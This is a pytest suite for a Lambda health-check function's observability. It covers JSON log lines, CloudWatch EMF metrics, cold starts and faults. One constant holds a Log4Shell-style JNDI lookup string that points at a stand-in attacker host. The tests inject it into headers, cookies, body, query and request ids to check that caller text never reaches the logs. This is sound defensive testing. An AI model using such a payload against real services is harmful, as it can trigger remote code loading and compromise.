"""What on-call reads: one JSON log line and one EMF metric blob per invocation, nothing the caller sent."""

from __future__ import annotations

import io
import json
import logging
import subprocess
import sys
import warnings
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from petsage_health import observability
from petsage_health.models import HealthCheckResponse
from tests.conftest import REPO_ROOT, load_event

Invoke = Callable[[Any], Any]
INJECTION = "${jndi:ldap://attacker.example/a}"


@pytest.fixture
def log_lines() -> Iterator[Callable[[], list[dict[str, Any]]]]:
    """The JSON lines the function writes, formatted by its own Powertools formatter."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(observability.logger.registered_formatter)
    std_logger = logging.getLogger(observability.SERVICE)
    std_logger.addHandler(handler)
    yield lambda: [json.loads(line) for line in stream.getvalue().splitlines()]
    std_logger.removeHandler(handler)


def answered(lines: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [line for line in lines if line["message"] == "Request answered"]


def emf_blobs(capsys: pytest.CaptureFixture[str]) -> list[dict[str, Any]]:
    """The EMF documents printed to stdout, which CloudWatch turns into metrics."""
    blobs = []
    for line in capsys.readouterr().out.splitlines():
        if line.startswith("{") and '"_aws"' in line:
            blobs.append(json.loads(line))
    return blobs


def request_blobs(blobs: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [blob for blob in blobs if "Requests" in blob]


def test_each_request_logs_one_line_with_correlation_id_route_status_and_latency(
    invoke: Invoke, log_lines: Callable[[], list[dict[str, Any]]]
) -> None:
    event = load_event("health")
    invoke(event)
    [line] = answered(log_lines())
    assert line["level"] == "INFO"
    assert line["service"] == "petsage-health"
    assert line["correlation_id"] == event["requestContext"]["requestId"]  # the access log's requestId
    assert line["route"] == "GET /api/v1/health"
    assert line["status"] == 200
    assert 0 <= line["latency_ms"] < 5000
    assert isinstance(line["cold_start"], bool)
    assert line["function_request_id"]


def test_cold_start_is_flagged_on_the_first_invocation_only(
    invoke: Invoke,
    log_lines: Callable[[], list[dict[str, Any]]],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # A fresh execution environment, as far as Powertools' two cold-start flags know.
    monkeypatch.setattr("aws_lambda_powertools.logging.logger.is_cold_start", True)
    monkeypatch.setattr("aws_lambda_powertools.metrics.provider.cold_start.is_cold_start", True)
    invoke(load_event("health"))
    invoke(load_event("health"))
    assert [line["cold_start"] for line in answered(log_lines())] == [True, False]
    cold = [blob for blob in emf_blobs(capsys) if "ColdStart" in blob]
    assert len(cold) == 1
    assert cold[0]["function_name"] == "HealthFunction"
    assert cold[0]["_aws"]["CloudWatchMetrics"][0]["Namespace"] == "PetSage"


@pytest.mark.parametrize(
    ("event_name", "route", "status"),
    [
        ("health", "GET /api/v1/health", 200),
        ("health-head", "HEAD /api/v1/health", 200),
        ("root", "GET /", 200),
        ("not-found", "$default", 404),
        ("malformed-http", "malformed", 400),
        ("direct-invoke", "direct", 200),
        ("scheduled", "direct", 200),
    ],
)
def test_every_invocation_flushes_a_request_count_for_its_route(
    invoke: Invoke,
    log_lines: Callable[[], list[dict[str, Any]]],
    capsys: pytest.CaptureFixture[str],
    event_name: str,
    route: str,
    status: int,
) -> None:
    invoke(load_event(event_name))
    [blob] = request_blobs(emf_blobs(capsys))
    assert blob["route"] == route
    assert blob["service"] == "petsage-health"
    assert (blob["Requests"], blob["Faults"]) == ([1.0], [0.0])
    definition = blob["_aws"]["CloudWatchMetrics"][0]
    assert definition["Namespace"] == "PetSage"
    assert definition["Dimensions"] == [["route", "service"]]
    assert [line["status"] for line in answered(log_lines()) if line["route"] == route] == [status]


def test_a_500_counts_as_a_fault_and_logs_at_error(
    invoke: Invoke,
    log_lines: Callable[[], list[dict[str, Any]]],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def explode() -> HealthCheckResponse:
        raise RuntimeError("boom")

    monkeypatch.setattr("petsage_health.routes.liveness", explode)
    invoke(load_event("health"))
    [blob] = request_blobs(emf_blobs(capsys))
    assert (blob["Requests"], blob["Faults"]) == ([1.0], [1.0])
    [line] = answered(log_lines())
    assert (line["level"], line["status"]) == ("ERROR", 500)


def test_idle_and_direct_invocations_raise_no_empty_metrics_warning(invoke: Invoke) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # "No application metrics to publish" would raise here
        invoke(load_event("direct-invoke"))
        invoke(load_event("health"))


def test_disabled_metrics_print_nothing_and_keep_nothing(
    invoke: Invoke, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("POWERTOOLS_METRICS_DISABLED", "true")
    for _ in range(3):
        invoke(load_event("health"))
    assert emf_blobs(capsys) == []
    assert observability.metrics.metric_set == {}  # Powertools alone would keep them when disabled


def test_header_and_body_values_never_reach_the_logs_or_metrics(
    invoke: Invoke, log_lines: Callable[[], list[dict[str, Any]]], capsys: pytest.CaptureFixture[str]
) -> None:
    event = load_event("health")
    event["headers"]["x-api-version"] = INJECTION
    event["headers"]["user-agent"] = INJECTION
    event["cookies"] = [f"session={INJECTION}"]
    event["body"] = INJECTION
    event["rawQueryString"] = "q=" + INJECTION
    malformed = load_event("health")
    malformed["headers"][INJECTION] = 1  # a non-string header: malformed, and its name is caller text
    invoke(event)
    invoke(malformed)
    written = capsys.readouterr().out + json.dumps(log_lines())
    assert "Request answered" in written
    assert "jndi" not in written


def test_hand_made_request_ids_and_route_keys_are_not_trusted(
    invoke: Invoke, log_lines: Callable[[], list[dict[str, Any]]], capsys: pytest.CaptureFixture[str]
) -> None:
    event = load_event("health")
    event["requestContext"]["requestId"] = INJECTION
    event["routeKey"] = event["requestContext"]["routeKey"] = f"GET /{INJECTION}"
    invoke(event)
    [line] = answered(log_lines())
    assert "correlation_id" not in line
    assert line["route"] == "unknown"
    assert request_blobs(emf_blobs(capsys))[0]["route"] == "unknown"


def test_no_key_of_one_invocation_leaks_into_the_next(
    invoke: Invoke, log_lines: Callable[[], list[dict[str, Any]]], monkeypatch: pytest.MonkeyPatch
) -> None:
    def liveness_that_tags_the_log() -> HealthCheckResponse:
        observability.logger.append_keys(pet_id="first-invocation-only")
        return HealthCheckResponse()

    monkeypatch.setattr("petsage_health.routes.liveness", liveness_that_tags_the_log)
    first = load_event("health")
    invoke(first)
    monkeypatch.undo()
    second = load_event("root")
    second["requestContext"]["requestId"] = "Vq1aAbCdIAMEsEc="
    invoke(second)
    invoke(load_event("direct-invoke"))
    first_line, second_line, direct_line = answered(log_lines())
    assert first_line["pet_id"] == "first-invocation-only"
    assert "pet_id" not in second_line
    assert second_line["correlation_id"] == "Vq1aAbCdIAMEsEc="
    assert "correlation_id" not in direct_line


def test_the_liveness_path_imports_neither_the_xray_sdk_nor_an_sdk_client() -> None:
    # A fresh interpreter, as a cold start: Tracer() or an SDK client would import them (~335 ms).
    # botocore's bare package (~0.5 ms) is imported by Powertools' user-agent hook; nothing below it.
    script = (
        "import json, sys\n"
        "from app import lambda_handler\n"
        "from types import SimpleNamespace\n"
        "context = SimpleNamespace(function_name='HealthFunction', memory_limit_in_mb=1024,\n"
        "    invoked_function_arn='arn:aws:lambda:eu-west-1:123456789012:function:HealthFunction',\n"
        "    aws_request_id='c0ffee', get_remaining_time_in_millis=lambda: 5000)\n"
        "event = json.load(open('events/health.json'))\n"
        "assert lambda_handler(event, context)['statusCode'] == 200\n"
        "print(json.dumps(sorted(m for m in sys.modules if m.startswith(('aws_xray_sdk', 'boto3', 'botocore.')))))\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", script],
        cwd=REPO_ROOT,
        env={"PYTHONPATH": f"{REPO_ROOT / 'functions/health'}:{REPO_ROOT}", "PATH": ""},
        capture_output=True,
        text=True,
        check=True,
    )
    assert json.loads(result.stdout.splitlines()[-1]) == []
